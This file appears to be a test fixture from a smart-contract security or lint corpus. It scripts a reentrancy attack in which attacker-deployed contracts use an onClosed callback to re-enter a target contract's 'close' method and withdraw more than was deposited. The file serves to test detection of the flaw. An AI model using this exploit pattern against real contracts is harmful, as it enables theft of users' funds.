import type { Attack } from '../../lint-corpus/scene.js'

const SECOND = `class Second {
  init() {}
  onClosed(account, amount) {}
}
module.exports = Second;`

const FIRST = `class First {
  init() {}
  aim(subject, second) { storage.put('subject', subject); storage.put('second', second); }
  onClosed(account, amount) { blockchain.call(storage.get('subject'), 'close', [storage.get('second')]); }
}
module.exports = First;`

export const attack: Attack = {
  harm: 'more',
  async prepare(scene) {
    await scene.use('bobby', 'open', '100')
    await scene.use('julia', 'open', '10')
  },
  // What the attacker has, and what the contract still owes it.
  measure: async (scene) => {
    const text = await scene.read('deposit', 'julia')
    const owed = text === null ? 0 : Number(JSON.parse(text).amount)
    return (await scene.balance('iost', 'julia')) + owed
  },
  async run(scene) {
    await scene.deploy('julia', 'second', SECOND, { onClosed: { args: ['string', 'string'] } })
    await scene.deploy('julia', 'first', FIRST, {
      aim: { args: ['string', 'string'] },
      onClosed: { args: ['string', 'string'] },
    })
    await scene.attack('$first/aim', '$subject', '$second')
    await scene.attack('close', '$first')
  },
}
